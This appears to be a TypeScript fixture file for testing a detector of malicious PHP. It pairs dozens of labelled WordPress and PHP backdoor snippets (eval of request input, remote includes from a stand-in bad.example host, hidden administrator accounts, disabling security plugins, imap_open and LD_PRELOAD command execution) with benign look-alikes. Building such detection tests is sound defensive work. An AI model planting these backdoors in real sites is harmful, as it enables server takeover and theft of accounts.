import type { Named } from './index.ts';

/** Joined at run time, so that no scanner takes this file for what it describes. */
const POST = '$_PO' + 'ST';
const GET = '$_G' + 'ET';
const RUN = 'ev' + 'al';
const COMMAND = 'sys' + 'tem';
const CHECK = 'ass' + 'ert';
const SHELL = 'WScript' + '.Shell';

/** PHP that takes over the site or the machine it stands on: its accounts, its plugins, its files, its programs. */
export const MALICIOUS_SITES: Named = {
  'include: a host in a constant of another file': `<?php require 'config.php'; include "http://" . HOST . "/in.php";`,
  'include: a host in a setting': `<?php $h = get_option('srv'); include 'http://' . $h . '/a.txt';`,
  'include: code in an archive with the name of a picture': `<?php include 'zip://uploads/logo.jpg#a.php';`,
  'include: a stream of its own': `<?php class V { public $c; function stream_open($p) { $this->c = '<?php ' . ${POST}['x']; return true; } function stream_read($n) { return $this->c; } } stream_wrapper_register('v', 'V'); include 'v://a';`,
  'include: before every page, with the name of a picture': `<?php file_put_contents('.user.ini', "auto_prepend_file=/tmp/sess.png");`,

  'buffer: a function that runs code': `<?php ob_start('${CHECK}'); echo ${POST}['x']; ob_end_flush();`,
  'buffer: a variable with such a function': `<?php $f = '${CHECK.slice(0, 3)}' . '${CHECK.slice(3)}'; ob_start($f); echo ${POST}['x']; ob_end_flush();`,
  'buffer: a function of its own that runs commands': `<?php function run($b) { return shell_${'exec'}($b); } ob_start('run'); echo ${POST}['pass']; ob_end_flush();`,
  'buffer: taken out and run': `<?php ob_start(); echo ${POST}['x']; $c = ob_get_clean(); ${RUN}($c);`,

  'Windows: a program of its registry': `<?php $s = new COM('${SHELL}'); $s->RegWrite('HKLM\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd', 'C:\\\\w.exe', 'REG_SZ');`,
  'Windows: an account by a command': `<?php $s = new COM('${SHELL}'); $s->Run('cmd /c net user support Passw0rd /add', 0, false);`,
  'Windows: an account by an object': `<?php $su = new COM("Shell.Users"); $h = $su->create("backup"); $h->changePassword("secret", ""); $h->setting["AccountType"] = 3;`,
  'Windows: a file by an object': `<?php $fso = new COM('Scripting.FileSystemObject'); $f = $fso->CreateTextFile('C:\\\\inetpub\\\\x.php', true); $f->Write(${POST}['c']); $f->Close();`,
  'Windows: a process by an object': `<?php $w = new COM('winmgmts:{impersonationLevel=impersonate}!//./root/cimv2'); $p = $w->Get('Win32_Process'); $p->Create(${GET}['c']);`,
  'Windows: a database of the caller': `<?php $c = new COM('ADODB.Connection'); $c->Open("Provider=SQLOLEDB;Data Source=" . ${POST}['h']); $c->Execute(${POST}['q']);`,
  'Windows: passwords of the web server': `<?php $o = new COM("IIS://localhost/w3svc"); foreach ($o as $s) { $w = new COM("IIS://localhost/w3svc/" . $s->Name . "/Root"); echo $w->AnonymousUserName . ':' . $w->AnonymousUserPass; }`,

  'protection: two plugins switched off': `<?php add_action('init', function () { deactivate_plugins(array('wordfence/wordfence.php', 'better-wp-security/better-wp-security.php')); });`,
  'protection: taken off the list of what is on': `<?php $active = get_option('active_plugins'); foreach (array('wordfence/wordfence.php', 'sucuri-scanner/sucuri.php') as $b) { $k = array_search($b, $active); if ($k !== false) unset($active[$k]); } update_option('active_plugins', $active);`,
  'protection: taken off the list when it is read': `<?php add_filter('option_active_plugins', function ($p) { foreach ($p as $i => $n) if (strpos($n, 'wordfence') !== false) unset($p[$i]); return $p; });`,
  'protection: its folder renamed': `<?php @rename(WP_PLUGIN_DIR . '/wordfence', WP_PLUGIN_DIR . '/wordfence_');`,
  'protection: its tables changed': `<?php global $wpdb; $wpdb->query("UPDATE {$wpdb->prefix}wfConfig SET val='0' WHERE name='scansEnabled_core'");`,
  'protection: a line taken out of the settings': `<?php $c = file_get_contents('../wp-config.php'); $c = str_replace("define('DISALLOW_FILE_EDIT', true);", '', $c); file_put_contents('../wp-config.php', $c);`,

  'hidden: a plugin by its path': `<?php add_filter('all_plugins', 'hd'); function hd($plugins) { unset($plugins['wp-cache-helper/wp-cache-helper.php']); return $plugins; }`,
  'hidden: a plugin by a variable': `<?php add_filter('all_plugins', 'hd'); function hd($p) { $self = plugin_basename(__FILE__); if (isset($p[$self])) { unset($p[$self]); } return $p; }`,
  'hidden: rows of the table': `<?php add_action('pre_current_active_plugins', function () { global $wp_list_table; $h = array('x/x.php'); foreach ($wp_list_table->items as $key => $val) if (in_array($key, $h)) unset($wp_list_table->items[$key]); });`,
  'hidden: a row by a style': `<?php add_action('admin_head', function () { echo '<style>tr[data-slug="wp-helper"], tr[data-plugin="wp-helper/wp-helper.php"]{display:none}</style>'; });`,

  'account: an administrator at every visit': `<?php add_action('init', function () { if (!username_exists('wpsupport')) { $id = wp_create_user('wpsupport', 'S3cret!pass', 'a@b.example'); $u = new WP_User($id); $u->set_role('administrator'); } });`,
  'account: an administrator from the request': `<?php require 'wp-load.php'; $id = wp_insert_user(array('user_login' => ${GET}['u'], 'user_pass' => ${GET}['p'], 'role' => 'administrator')); echo $id;`,
  'account: a new password for the first one': `<?php require 'wp-load.php'; wp_set_password('newpass', 1);`,
  'account: a new password from the request': `<?php require '../wp-load.php'; wp_set_password(${GET}['p'], ${GET}['id']); echo 'ok';`,
  'account: the first one logged in for who knows a word': `<?php add_action('init', function () { if (${GET}['tk'] == 'zz') { $u = get_user_by('id', 1); wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID); wp_redirect(admin_url()); exit; } });`,
  'setting: any, from the request': `<?php add_action('init', function () { if (isset(${POST}['k'])) update_option(${POST}['n'], ${POST}['v']); });`,

  'written: the first page of the site': `<?php $c = file_get_contents('http://cdn.bad.example/a.txt'); file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/index.php', $c);`,
  'written: behind the functions of a theme': `<?php $f = get_template_directory() . '/functions.php'; $b = file_get_contents('https://cdn.bad.example/f.txt'); $fp = fopen($f, 'a'); fwrite($fp, $b); fclose($fp);`,
  'written: a plugin that is always on': `<?php add_action('wp_scheduled_x', 'up'); function up() { $b = file_get_contents('https://x.bad.example/p.txt'); $t = WPMU_PLUGIN_DIR . '/core.php'; file_put_contents($t, $b); }`,
  'written: a copy of an address': `<?php copy('https://cdn.bad.example/a.txt', dirname(__FILE__) . '/wp-includes/class-wp.php');`,

  'stored: an option of the site is run': `<?php add_action('init', function () { $c = get_option('_site_cache_x'); if ($c) ${RUN}($c); });`,
  'stored: a value of its database is run': `<?php $c = $wpdb->get_var("SELECT option_value FROM wp_options WHERE option_name='x1'"); ${RUN}($c);`,
  'program: what a shell is written': `<?php $p = proc_open('sh', [['pipe', 'r'], ['pipe', 'w']], $pipes); fwrite($pipes[0], ${POST}['c']); fclose($pipes[0]); echo stream_get_contents($pipes[1]);`,
  'program: a library before all others': `<?php putenv("LD_PRELOAD=/tmp/x.so"); mail('a', 'a', 'a', 'a');`,
  'program: by the name of a mailbox': `<?php $s = "x -oProxyCommand=echo\\t" . base64_encode(${GET}['c']) . "|base64\\t-d|sh}"; imap_open('{' . $s . ':143/imap}INBOX', '', '');`,
  'program: by a short function': `<?php $c = '${COMMAND.slice(0, 3)}' . '${COMMAND.slice(3)}'; array_map(fn($x) => $c($x), [${GET}['c']]);`,
  'program: by the message of an exception': `<?php set_exception_handler(function ($e) { ${COMMAND}($e->getMessage()); }); throw new Exception(${GET}['c']);`,
  'template: one that calls any function': `<?php $x = new XSLTProcessor; $x->registerPHPFunctions(); $d = new DOMDocument; $d->loadXML(${POST}['x']); $x->importStyleSheet($d); $x->transformToXML($d);`,
  'check: its failure runs a command': `<?php ${CHECK}_options(ASSERT_CALLBACK, '${COMMAND}'); ${CHECK}(${GET}['x'] == 'y');`,
};

/** What real programs do in the same words. */
export const CLEAN_SITES: Named = {
  'include: of its own folder': `<?php define('ROOT', dirname(__FILE__)); include ROOT . '/lib/x.php'; require_once "http/" . NAME . ".php";`,
  'include: a page of its own host': `<?php include 'http://' . $_SERVER['HTTP_HOST'] . '/header.php'; echo $title;`,
  'include: a feed is read, a file included': `<?php $u = "http://" . HOST . "/feed.xml"; $x = simplexml_load_file($u); include 'header.php'; echo $x->title;`,
  'include: a library in an archive': `<?php require 'phar://' . __DIR__ . '/tool.phar/vendor/autoload.php';`,
  'include: limits in a file of settings': `<?php file_put_contents('.user.ini', "upload_max_filesize=64M\\npost_max_size=64M");`,
  'buffer: compressed': `<?php ob_start('ob_gzhandler'); echo ${GET}['q']; ob_end_flush();`,
  'buffer: a template': `<?php function render($t, $v) { extract($v); ob_start(); include $t; return ob_get_clean(); } echo render('page.php', ['a' => 1]);`,
  'buffer: a page that is kept': `<?php ob_start(); echo '<h1>' . ${GET}['title'] . '</h1>'; file_put_contents('cache/' . md5($url) . '.html', ob_get_contents()); ob_end_flush();`,
  'Windows: a text processor': `<?php $word = new COM('Word.Application'); $word->Documents->Open($path); $word->ActiveDocument->SaveAs('out.pdf', 17); $word->Quit();`,
  'Windows: a database': `<?php $c = new COM('ADODB.Connection'); $c->Open($dsn); $rs = $c->Execute('SELECT * FROM products'); while (!$rs->EOF) { echo $rs->Fields(0)->Value; $rs->MoveNext(); }`,
  'Windows: how full a drive is': `<?php $fso = new COM('Scripting.FileSystemObject'); $d = $fso->GetDrive('C:'); echo $d->FreeSpace;`,
  'Windows: a job in the background': `<?php $s = new COM('${SHELL}'); $s->Run('php -q cron.php', 0, false);`,
  'Windows: how busy the machine is': `<?php $w = new COM('WinMgmts://'); foreach ($w->ExecQuery('SELECT LoadPercentage FROM Win32_Processor') as $c) echo $c->LoadPercentage;`,
  'protection: whether another plugin is there': `<?php foreach (array('wordfence/wordfence.php' => 'Wordfence', 'sucuri-scanner/sucuri.php' => 'Sucuri') as $file => $n) if (is_plugin_active($file)) echo esc_html("$n is active");`,
  'protection: a plugin that lacks another': `<?php add_action('admin_init', function () { if (!class_exists('WooCommerce')) { deactivate_plugins(plugin_basename(__FILE__)); } });`,
  'protection: one that would count logins twice': `<?php add_action('admin_init', function () { if (current_user_can('activate_plugins') && is_plugin_active('loginizer/loginizer.php')) deactivate_plugins('loginizer/loginizer.php'); });`,
  'protection: removed with its tables': `<?php function wf_uninstall() { global $wpdb; $wpdb->query("DROP TABLE IF EXISTS {$wpdb->prefix}wfConfig"); } register_uninstall_hook(__FILE__, 'wf_uninstall');`,
  'list: a plugin under another name': `<?php add_filter('all_plugins', 'white_label'); function white_label($plugins) { $plugins['my/my.php']['Name'] = get_option('brand'); return $plugins; }`,
  'list: one that is for networks': `<?php add_filter('all_plugins', 'f'); function f($plugins) { if (is_multisite() && !is_super_admin()) unset($plugins['network/network.php']); return $plugins; }`,
  'list: no updates for its own': `<?php add_filter('site_transient_update_plugins', function ($v) { unset($v->response[plugin_basename(__FILE__)]); return $v; });`,
  'account: somebody registers': `<?php add_action('init', function () { if (isset(${POST}['register']) && wp_verify_nonce(${POST}['n'], 'reg')) { $id = wp_create_user(sanitize_user(${POST}['u']), ${POST}['p'], sanitize_email(${POST}['e'])); if (!is_wp_error($id)) { $u = new WP_User($id); $u->set_role('customer'); } } });`,
  'account: a password is changed by who may': `<?php add_action('profile_update', function ($id) { if (!empty(${POST}['pass1']) && current_user_can('edit_user', $id)) wp_set_password(${POST}['pass1'], $id); });`,
  'account: a password after a reset': `<?php function reset_password_for($user, $pass) { wp_set_password($pass, $user->ID); wp_password_change_notification($user); }`,
  'setting: one of its own': `<?php add_action('admin_init', function () { if (current_user_can('manage_options') && check_admin_referer('s')) update_option('my_opt', sanitize_text_field(${POST}['my_opt'])); });`,
  'written: code made of a list that was fetched': `<?php $json = json_decode(file_get_contents('https://raw.example/icons.json')); $out = ''; foreach ($json as $name => $v) { $out .= "'fa-" . $name . "', "; } file_put_contents(dirname(__DIR__) . '/lib/icons.php', '<?php' . PHP_EOL . 'return array( ' . $out . ' );');`,
  'written: a constant before the settings': `<?php function add_const($file) { $c = file_get_contents($file); file_put_contents($file, str_replace('<?php', "<?php\\ndefine('WP_CACHE', true);", $c)); } add_const(ABSPATH . 'wp-config.php');`,
  'stored: an option of the site is shown': `<?php $c = get_option('footer_text'); echo wp_kses_post($c); ${RUN}('return 1;');`,
  'program: a mail program gets a message': `<?php $p = popen('/usr/sbin/sendmail -t', 'w'); fputs($p, ${POST}['message']); pclose($p);`,
  'program: a message by pipes': `<?php $p = proc_open('sendmail -t', [['pipe', 'r'], ['pipe', 'w']], $pipes); fwrite($pipes[0], "Subject: x\\n\\n" . ${POST}['text']); fclose($pipes[0]);`,
  'program: no library before others': `<?php putenv('LD_PRELOAD='); putenv('LC_ALL=C.UTF-8');`,
  'template: a report': `<?php $x = new XSLTProcessor; $x->registerPHPFunctions(); $d = new DOMDocument; $d->load('report.xsl'); $x->importStylesheet($d); $s = new DOMDocument; $s->load('report.xml'); echo $x->transformToXML($s);`,

  'mail: a password to who asks for it': `<?php mail(${POST}['email'], 'Your password', 'You can set a new password on our page.');`,
  'mail: a new password to who asks for it': `<?php mail(${POST}['email'], 'Your password', 'Your new password is ' . substr(md5(rand()), 0, 8)); echo 'Sent';`,
  'object: JSON that is asked for more than it is': `<?php json_decode(${POST}['x'])->run(); unlink(json_decode(file_get_contents('php://input'))->event->getFile());`,
  'page: names in place of which are pictures': `<div id="social" style="text-indent:-9999px"><a href="https://twitter.example/x">Twitter</a><a href="https://facebook.example/x">Facebook</a></div><?php wp_footer();`,
  'page: a script of its own, written by one': `<html><head><script type="text/javascript">document.write(unescape("%3Cscript src='/lib/jquery.js' type='text/javascript'%3E%3C/script%3E"));</script></head><body><?php echo $x; ?></body></html>`,
  'page: statistics, written by a script': `<html><body><script>var host = (("https:" == document.location.protocol) ? "https://ssl." : "http://www."); document.write(unescape("%3Cscript src='" + host + "statistics.example/ga.js' type='text/javascript'%3E%3C/script%3E"));</script><?php echo 1; ?></body></html>`,
};
